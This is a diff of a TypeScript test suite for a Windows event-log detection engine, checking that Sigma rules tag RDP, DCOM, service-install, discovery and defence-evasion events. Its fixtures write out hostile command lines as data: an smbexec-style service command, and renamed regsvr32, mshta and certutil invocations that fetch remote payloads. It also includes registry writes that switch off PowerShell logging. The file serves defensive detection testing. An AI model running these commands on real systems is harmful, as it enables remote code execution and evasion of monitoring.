@@ -5,6 +5,7 @@ import path from 'node:path';
 import type { JsonRecord } from '../event.js';
 import { analyzeEvents } from '../analysis/analyze.js';
 import { at, makeEvent } from '../analysis/events.fixture.js';
+import { attackLookup } from '../../core/attack/lookup.js';
 import { loadSigmaRules, shippedRulesDir } from './index.js';
 
 const builtin = loadSigmaRules({ sources: [{ name: 'rules-builtin', path: path.join(shippedRulesDir(), 'rules-builtin') }], minLevel: 'informational' });
@@ -289,13 +290,13 @@ describe('built-in channel rules', () => {
     expect(hits([special(70, '0x3e7', 'SYSTEM', 'S-1-5-18'), logon(70, '0x3e7')]).has(ADMIN)).toBe(false);
   });
 
-  it('RDP: authentication refused (RdpCoreTs 140, informational; ten from one address in five minutes medium) and sessions disconnected from another address (LSM 24, informational)', () => {
+  it('RDP: authentication refused (RdpCoreTs 140, informational, brute force and RDP; ten from one address in five minutes medium) and sessions disconnected from another address (LSM 24, informational)', () => {
     const FAIL = 'RDP Connection Refused For A Wrong User Name Or Password (RdpCoreTs 140)';
     const BURST = 'Many RDP Authentication Failures From One Address';
     const core = (t: number, ip: string): Ev => win(t, 'Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational', 'Microsoft-Windows-RemoteDesktopServices-RdpCoreTS', 140, { IPString: ip });
     const h = hits(Array.from({ length: 12 }, (_, i) => core(i * 10, '10.0.0.30')));
     expect(h.get(BURST)).toEqual({ level: 'medium', tactics: ['credential-access'] });
-    expect(h.get(FAIL)).toEqual({ level: 'informational', tactics: ['credential-access'] });
+    expect(h.get(FAIL)).toEqual({ level: 'informational', tactics: ['credential-access', 'lateral-movement'] });
     expect(hits(Array.from({ length: 12 }, (_, i) => core(i * 10, `10.0.0.${i}`))).has(BURST)).toBe(false);
     expect(hits(Array.from({ length: 9 }, (_, i) => core(i * 10, '10.0.0.30'))).has(BURST)).toBe(false);
     const lsm = (t: number, address: string): Ev => win(t, 'Microsoft-Windows-TerminalServices-LocalSessionManager/Operational', 'Microsoft-Windows-TerminalServices-LocalSessionManager', 24, { User: 'CORP\\bob', SessionID: '3', Address: address });
@@ -453,6 +454,38 @@ describe('built-in channel rules', () => {
     expect(hits([sec(6, 4816, { RemoteName: '10.0.0.57', RpcCallStatus: '0x6c6' })]).get('RPC Integrity Violation Detected')).toEqual({ level: 'low', tactics: ['credential-access', 'collection'] });
     // A member added to a group is the group-member rules', not the group-type rule.
     expect(titlesOf(sec(7, 4728, { SubjectUserName: 'alice', TargetUserName: 'Helpdesk', MemberSid: 'S-1-5-21-1-2-3-1190' }))).not.toContain('Group Type Changed');
+  });
+
+  it('RDP traces on both sides: client connect/domain/disconnect (RDPClient 1026/1027, low), server connection ended (RdpCoreTs 102/103), logoff and disconnect reason (LSM 23/40), unlock logons from another address (4624 type 7), all informational; other ids and local unlocks are not', () => {
+    const LM = ['lateral-movement'];
+    const rdpc = (t: number, id: number, data: JsonRecord): Ev => win(t, 'Microsoft-Windows-TerminalServices-RDPClient/Operational', 'Microsoft-Windows-TerminalServices-ClientActiveXCore', id, data, 'WS01');
+    const CLIENT = 'Outbound RDP Connection By The RDP Client';
+    expect(hits([rdpc(1, 1027, { DomainName: 'CORP', SessionID: '3' })]).get(CLIENT)).toEqual({ level: 'low', tactics: LM });
+    expect(titlesOf(rdpc(2, 1026, { Name: 'Disconnect Reason', Value: '2', CustomLevel: 'Info' }))).toContain(CLIENT);
+    expect(titlesOf(rdpc(3, 1105, { Name: 'x', Value: '1', CustomLevel: 'Info' }))).toEqual([]);
+    const core = (t: number, id: number, data: JsonRecord): Ev => win(t, 'Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational', 'Microsoft-Windows-RemoteDesktopServices-RdpCoreTS', id, data);
+    const ENDED = 'RDP Connection Ended (RdpCoreTs 102/103)';
+    expect(hits([core(4, 102, {})]).get(ENDED)).toEqual({ level: 'informational', tactics: LM });
+    expect(titlesOf(core(5, 103, { ReasonCode: '14' }))).toEqual([ENDED]);
+    expect(titlesOf(core(6, 148, { ChannelName: 'rdpcmd', TunnelID: '0' }))).toEqual([]);
+    const lsm = (t: number, id: number, data: JsonRecord): Ev => win(t, 'Microsoft-Windows-TerminalServices-LocalSessionManager/Operational', 'Microsoft-Windows-TerminalServices-LocalSessionManager', id, data);
+    const OFF = 'RDP Session Logoff Or Disconnect Reason (LSM 23/40)';
+    expect(hits([lsm(7, 23, { User: 'CORP\\bob', SessionID: '3' })]).get(OFF)).toEqual({ level: 'informational', tactics: LM });
+    expect(titlesOf(lsm(8, 40, { Session: '3', Reason: '5' }))).toEqual([OFF]);
+    expect(titlesOf(lsm(9, 41, { User: 'CORP\\bob', SessionID: '3' }))).toEqual([]);
+    const UNLOCK = 'Unlock Or Reconnection Logon From Another Address (4624 Type 7)';
+    const unlock = (t: number, ip: string | null): Ev => sec(t, 4624, { TargetUserName: 'bob', TargetDomainName: 'CORP', LogonType: '7', ...(ip === null ? {} : { IpAddress: ip }), LogonProcessName: 'User32 ', AuthenticationPackageName: 'Negotiate' });
+    expect(hits([unlock(10, '10.0.0.30')]).get(UNLOCK)).toEqual({ level: 'informational', tactics: LM });
+    for (const ip of ['-', '127.0.0.1', '::1', null]) expect(titlesOf(unlock(11, ip))).not.toContain(UNLOCK);
+    expect(titlesOf(sec(12, 4624, { TargetUserName: 'bob', LogonType: '2', IpAddress: '10.0.0.30' }))).not.toContain(UNLOCK);
+  });
+
+  it('DCOM 10016 under the provider name of older exports (DCOM) too; a 10016 of another provider is not the rule', () => {
+    const DCOM = 'DCOM Permission Error For A Remote Activation';
+    const ev = (t: number, provider: string): Ev => win(t, 'System', provider, 10016, { param1: 'application-specific', param2: 'Local', param3: 'Activation', param4: '{C2F03A33-21F5-47FA-B4BB-156362A2F239}' });
+    expect(hits([ev(1, 'DCOM')]).get(DCOM)).toEqual({ level: 'low', tactics: ['lateral-movement'] });
+    expect(titlesOf(ev(2, 'Microsoft-Windows-DistributedCOM'))).toContain(DCOM);
+    expect(titlesOf(ev(3, 'Vendor-Agent'))).not.toContain(DCOM);
   });
 
   it('DCShadow clean-up: a server or nTDSDSA object deleted from the sites container (5141, medium); other deleted objects are not', () => {
@@ -653,5 +686,120 @@ describe('built-in channel rules', () => {
     expect(hits([obj(1, 'C:\\Windows\\System32\\winevt\\Logs\\Security.evtx', '%%1537\n', '0x10000')]).get(DEL)).toEqual({ level: 'medium', tactics: ['defense-impairment'] });
     expect(titlesOf(obj(2, 'C:\\Windows\\System32\\winevt\\Logs\\Security.evtx', '%%4416\n', '0x1'))).not.toContain(DEL);
     expect(titlesOf(obj(3, 'C:\\Users\\alice\\Documents\\notes.evtx', '%%1537\n', '0x10000'))).not.toContain(DEL);
+  });
+});
+
+// The classes of built-in auditing an attack log is often made of, written as Windows and Sysmon write them (field names
+// and value spellings as in real EVTX, `%%` codes, EventData without names, localised group names, renamed binaries
+// with any image name): each variant must be tagged by the default set (SigmaHQ sets from the bundle, the built-in rules
+// from their folder) with a technique of its class's tactic, at any level.
+describe('classes of built-in auditing, as Windows writes them, through the default set', () => {
+  const d = shippedRulesDir();
+  const defaults = loadSigmaRules({
+    minLevel: 'informational',
+    sources: [{ name: 'rules', path: path.join(d, 'rules') }, { name: 'rules-emerging-threats', path: path.join(d, 'rules-emerging-threats') }, { name: 'rules-builtin-folder', path: path.join(d, 'rules-builtin') }],
+  });
+  const lookup = attackLookup();
+  let t = 0;
+  const w = (channel: string, provider: string, eventId: number, data: JsonRecord): Ev => win(t++, channel, provider, eventId, data, 'WS01');
+  const S = (id: number, data: JsonRecord): Ev => w('Security', 'Microsoft-Windows-Security-Auditing', id, data);
+  const SYS = (id: number, data: JsonRecord, provider = 'Service Control Manager'): Ev => w('System', provider, id, data);
+  const SM = (id: number, data: JsonRecord): Ev => w('Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', id, data);
+  const unnamed = (...values: string[]): JsonRecord => ({ Data: { '#text': values } });
+  const DI = ['discovery'];
+  const LM = ['lateral-movement'];
+  const SVC = ['persistence', 'lateral-movement', 'execution'];
+  const DE = ['stealth', 'defense-impairment'];
+  const PER = ['persistence'];
+  const S32 = 'C:\\Windows\\System32\\';
+  const g4799 = (caller: string, group = 'Administrators', sid = 'S-1-5-32-544'): Ev =>
+    S(4799, { TargetUserName: group, TargetDomainName: 'Builtin', TargetSid: sid, SubjectUserSid: 'S-1-5-21-1-2-3-1104', SubjectUserName: 'bob', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7a1', CallerProcessId: '0x1a2c', CallerProcessName: caller });
+  const s7045 = (name: string, image: string, type = 'user mode service', start = 'demand start'): Ev => SYS(7045, { ServiceName: name, ImagePath: image, ServiceType: type, StartType: start, AccountName: 'LocalSystem' });
+  const rdpc = (id: number, data: JsonRecord): Ev => w('Microsoft-Windows-TerminalServices-RDPClient/Operational', 'Microsoft-Windows-TerminalServices-ClientActiveXCore', id, data);
+  const core = (id: number, data: JsonRecord): Ev => w('Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational', 'Microsoft-Windows-RemoteDesktopServices-RdpCoreTS', id, data);
+  const lsm = (id: number, data: JsonRecord): Ev => w('Microsoft-Windows-TerminalServices-LocalSessionManager/Operational', 'Microsoft-Windows-TerminalServices-LocalSessionManager', id, data);
+  const rcm = (id: number, data: JsonRecord): Ev => w('Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational', 'Microsoft-Windows-TerminalServices-RemoteConnectionManager', id, data);
+  const logon = (type: string): Ev => S(4624, { TargetUserName: 'bob', TargetDomainName: 'CORP', LogonType: type, IpAddress: '10.0.0.5', WorkstationName: 'WS02', LogonProcessName: 'User32 ', AuthenticationPackageName: 'Negotiate', ProcessName: `${S32}svchost.exe` });
+  const dcom = (where: string, what: string, address: string, provider = 'Microsoft-Windows-DistributedCOM'): Ev =>
+    SYS(10016, { param1: 'application-specific', param2: where, param3: what, param4: '{C2F03A33-21F5-47FA-B4BB-156362A2F239}', param5: '{316CDED5-E4AE-4B15-9113-7055D84DCC97}', param6: 'CORP', param7: 'bob', param8: 'S-1-5-21-1-2-3-1104', param9: address, param10: 'Unavailable', param11: 'Unavailable' }, provider);
+  const net3 = (image: string, port: string, initiated = 'true'): Ev =>
+    SM(3, { Image: image, User: 'CORP\\bob', Protocol: 'tcp', Initiated: initiated, SourceIsIpv6: 'false', SourceIp: '10.0.0.5', SourceHostname: 'WS01.corp.example', SourcePort: '50123', DestinationIsIpv6: 'false', DestinationIp: '10.0.0.12', DestinationHostname: 'DC01.corp.example', DestinationPort: port });
+  const reg = (id: number, key: string, details: string, image = `${S32}reg.exe`, eventType = 'SetValue'): Ev => SM(id, { EventType: eventType, Image: image, TargetObject: key, Details: details, User: 'CORP\\bob' });
+  const PS = 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\';
+  const CAT = 'HKLM\\System\\CurrentControlSet\\Services\\WinSock2\\Parameters\\Protocol_Catalog9\\Catalog_Entries64\\000000000007\\PackedCatalogItem';
+  const renamed = (image: string, original: string, description: string, cmd: string, withOriginal = true): Ev =>
+    SM(1, { Image: image, CommandLine: cmd, ...(withOriginal ? { OriginalFileName: original } : {}), Description: description, Product: 'Microsoft® Windows® Operating System', Company: 'Microsoft Corporation', ParentImage: `${S32}cmd.exe`, ParentCommandLine: 'cmd.exe', User: 'CORP\\bob', IntegrityLevel: 'Medium', CurrentDirectory: 'C:\\Users\\bob\\' });
+  const TMP = 'C:\\Users\\bob\\AppData\\Local\\Temp\\';
+  const variants: [string, string[], Ev[]][] = [
+    ['4799 net1', DI, [g4799(`${S32}net1.exe`)]],
+    ['4799 net', DI, [g4799(`${S32}net.exe`)]],
+    ['4799 powershell', DI, [g4799(`${S32}WindowsPowerShell\\v1.0\\powershell.exe`)]],
+    ['4799 unknown program', DI, [g4799(`${TMP}enum.exe`)]],
+    ['4799 French group name', DI, [g4799(`${S32}net1.exe`, 'Administrateurs')]],
+    ['4799 Remote Desktop Users', DI, [g4799(`${S32}net1.exe`, 'Remote Desktop Users', 'S-1-5-32-555')]],
+    ['4799 caller -', DI, [g4799('-')]],
+    ['4799 EventData without names', DI, [S(4799, unnamed('Administrators', 'Builtin', 'S-1-5-32-544', 'S-1-5-21-1-2-3-1104', 'bob', 'CORP', '0x3e7a1', '0x1a2c', `${S32}net1.exe`))]],
+    ['7045 PSEXESVC', SVC, [s7045('PSEXESVC', '%SystemRoot%\\PSEXESVC.exe')]],
+    ['7045 random name in the Windows folder', SVC, [s7045('AbCd', '%systemroot%\\XyZwQrSt.exe')]],
+    ['7045 smbexec-like command', SVC, [s7045('BTOBTO', '%COMSPEC% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & del %TEMP%\\execute.bat')]],
+    ['7045 bare cmd.exe', SVC, [s7045('spoolsv', 'cmd.exe', 'user mode service', 'auto start')]],
+    ['7045 program on an admin share', SVC, [s7045('updsvc', '\\\\10.0.0.5\\ADMIN$\\upd.exe')]],
+    ['7045 %% codes', SVC, [s7045('WinUpd', 'C:\\Windows\\Temp\\upd.exe', '%%1040', '%%1035')]],
+    ['7045 ordinary service', SVC, [s7045('MyAgent', '"C:\\Program Files\\Vendor\\agent.exe"', 'user mode service', 'auto start')]],
+    ['7045 EventData without names', SVC, [SYS(7045, unnamed('WinUpd', 'C:\\Windows\\Temp\\upd.exe', 'user mode service', 'demand start', 'LocalSystem'))]],
+    ['7045 param1-style data', SVC, [SYS(7045, { param1: 'WinUpd', param2: 'C:\\Windows\\Temp\\upd.exe', param3: 'user mode service', param4: 'demand start', param5: 'LocalSystem' })]],
+    ...[1024, 1026, 1027, 1029, 1102].map((id): [string, string[], Ev[]] => [`RDPClient ${id}`, LM, [rdpc(id, id === 1027 ? { DomainName: 'CORP', SessionID: '3' } : id === 1029 ? { TraceMessage: 'abcdefghijklmnop=-CORP' } : { Name: 'Server Name', Value: '10.0.0.12', CustomLevel: 'Info' })]]),
+    ['RdpCoreTs 131', LM, [core(131, { ConnType: 'TCP', ClientIP: '10.0.0.5:51234' })]],
+    ['RdpCoreTs 98', LM, [core(98, {})]],
+    ['RdpCoreTs 102', LM, [core(102, {})]],
+    ['RdpCoreTs 103', LM, [core(103, { ReasonCode: '14' })]],
+    ['RdpCoreTs 140', LM, [core(140, { IPString: '10.0.0.5' })]],
+    ...[21, 22, 23, 24, 25].map((id): [string, string[], Ev[]] => [`LSM ${id}`, LM, [lsm(id, { User: 'CORP\\bob', SessionID: '3', ...(id === 23 ? {} : { Address: '10.0.0.5' }) })]]),
+    ['LSM 39', LM, [lsm(39, { TargetSession: '3', Source: '5' })]],
+    ['LSM 40', LM, [lsm(40, { Session: '3', Reason: '5' })]],
+    ['RCM 1149', LM, [rcm(1149, { Param1: 'bob', Param2: 'CORP', Param3: '10.0.0.5' })]],
+    ['4624 type 10', LM, [logon('10')]],
+    ['4624 type 7 from another address', LM, [logon('7')]],
+    ['10016 remote activation', LM, [dcom('Remote', 'Activation', '10.0.0.5')]],
+    ['10016 local launch', LM, [dcom('Local', 'Launch', 'LocalHost (Using LRPC)')]],
+    ['10016 provider DCOM', LM, [dcom('Local', 'Activation', 'LocalHost (Using LRPC)', 'DCOM')]],
+    ['10016 EventData without names', LM, [SYS(10016, unnamed('application-specific', 'Local', 'Activation', '{C2F03A33-21F5-47FA-B4BB-156362A2F239}', '{316CDED5-E4AE-4B15-9113-7055D84DCC97}', 'CORP', 'bob', 'S-1-5-21-1-2-3-1104', 'LocalHost (Using LRPC)', 'Unavailable', 'Unavailable'), 'Microsoft-Windows-DistributedCOM')]],
+    ...['net.exe:445', 'net1.exe:445', 'nltest.exe:389', 'ipconfig.exe:53', 'ARP.EXE:445', 'PING.EXE:445', 'nbtstat.exe:137', 'nslookup.exe:53', 'whoami.exe:389', 'systeminfo.exe:135'].map((s): [string, string[], Ev[]] => {
+      const [n, p] = s.split(':') as [string, string];
+      return [`Sysmon 3 ${n}`, DI, [net3(`${S32}${n}`, p)]];
+    }),
+    ['Sysmon 3 nmap', DI, [net3('C:\\Program Files (x86)\\Nmap\\nmap.exe', '445')]],
+    ['Sysmon 3 net.exe, Initiated false', DI, [net3(`${S32}net.exe`, '445', 'false')]],
+    ['Sysmon 13 ScriptBlockLogging 0', DE, [reg(13, `${PS}ScriptBlockLogging\\EnableScriptBlockLogging`, 'DWORD (0x00000000)')]],
+    ['Sysmon 13 ScriptBlockLogging 0, user hive', DE, [reg(13, 'HKU\\S-1-5-21-1-2-3-1104\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging\\EnableScriptBlockLogging', 'DWORD (0x00000000)', `${S32}WindowsPowerShell\\v1.0\\powershell.exe`)]],
+    ['Sysmon 13 ScriptBlockLogging binary data', DE, [reg(13, `${PS}ScriptBlockLogging\\EnableScriptBlockLogging`, 'Binary Data')]],
+    ['Sysmon 13 ModuleLogging 0', DE, [reg(13, `${PS}ModuleLogging\\EnableModuleLogging`, 'DWORD (0x00000000)')]],
+    ['Sysmon 13 Transcription 0', DE, [reg(13, `${PS}Transcription\\EnableTranscripting`, 'DWORD (0x00000000)')]],
+    ['Sysmon 13 ExecutionPolicy Bypass (policy)', DE, [reg(13, `${PS}ExecutionPolicy`, 'Bypass')]],
+    ['Sysmon 13 ExecutionPolicy Unrestricted (ShellIds)', DE, [reg(13, 'HKLM\\SOFTWARE\\Microsoft\\PowerShell\\1\\ShellIds\\Microsoft.PowerShell\\ExecutionPolicy', 'Unrestricted')]],
+    ['Sysmon 12 ScriptBlockLogging key deleted', DE, [reg(12, `${PS}ScriptBlockLogging`, '', `${S32}reg.exe`, 'DeleteKey')]],
+    ['Sysmon 12 ModuleLogging key deleted', DE, [reg(12, `${PS}ModuleLogging`, '', `${S32}reg.exe`, 'DeleteKey')]],
+    ['WS2HELP 1', PER, [w('Microsoft-Windows-Winsock-WS2HELP/Operational', 'Microsoft-Windows-Winsock-WS2HELP', 1, { LspName: 'Lsp', Catalog: '64', LspPath: 'C:\\Users\\bob\\lsp.dll' })]],
+    ['Sysmon 13 Protocol_Catalog9 by an unknown program', PER, [reg(13, CAT, 'Binary Data', 'C:\\Users\\bob\\inst.exe')]],
+    ['Sysmon 13 Protocol_Catalog9 by svchost', PER, [reg(13, CAT, 'Binary Data', `${S32}svchost.exe`)]],
+    ['Sysmon 12 Protocol_Catalog9 entry created', PER, [reg(12, 'HKLM\\System\\CurrentControlSet\\Services\\WinSock2\\Parameters\\Protocol_Catalog9\\Catalog_Entries\\000000000013', '', 'C:\\Users\\bob\\inst.exe', 'CreateKey')]],
+    ['renamed regsvr32', DE, [renamed(`${TMP}svc.exe`, 'REGSVR32.EXE', 'Microsoft(C) Register Server', 'svc.exe /s /u /i:http://10.0.0.9/a.sct scrobj.dll')]],
+    ['renamed regsvr32, no OriginalFileName', DE, [renamed('C:\\Users\\bob\\Desktop\\notepad.exe', 'REGSVR32.EXE', 'Microsoft(C) Register Server', 'notepad.exe /s x.dll', false)]],
+    ['renamed regsvr32, lower-case OriginalFileName', DE, [renamed('C:\\Users\\bob\\Desktop\\r.exe', 'regsvr32.exe', 'Microsoft(C) Register Server', 'r.exe /s x.dll')]],
+    ['renamed rundll32', DE, [renamed(`${TMP}r.exe`, 'RUNDLL32.EXE', 'Windows host process (Rundll32)', 'r.exe x.dll,Start')]],
+    ['renamed rundll32, no OriginalFileName', DE, [renamed(`${TMP}r.exe`, 'RUNDLL32.EXE', 'Windows host process (Rundll32)', 'r.exe x.dll,Start', false)]],
+    ['renamed mshta, no OriginalFileName', DE, [renamed(`${TMP}h.exe`, 'MSHTA.EXE', 'Microsoft (R) HTML Application host', 'h.exe http://10.0.0.9/a.hta', false)]],
+    ['renamed certutil, no OriginalFileName', DE, [renamed(`${TMP}c.exe`, 'CertUtil.exe', 'CertUtil.exe', 'c.exe -urlcache -f http://10.0.0.9/a a', false)]],
+  ];
+  it('every variant is tagged with a technique of its class\'s tactic', () => {
+    expect(defaults.skipped.filter((x) => x.source.startsWith('rules-builtin-folder/'))).toEqual([]);
+    const untagged = variants
+      .filter(([, tactics, events]) => {
+        const found = analyzeEvents(events, { sigma: defaults }).detections?.summary() ?? [];
+        return !found.some((x) => [...x.tactics, ...x.techniques.flatMap((y) => lookup.technique(y).tactics)].some((y) => tactics.includes(y)));
+      })
+      .map(([name]) => name);
+    expect(untagged).toEqual([]);
+    expect(variants.length).toBe(73);
   });
 });
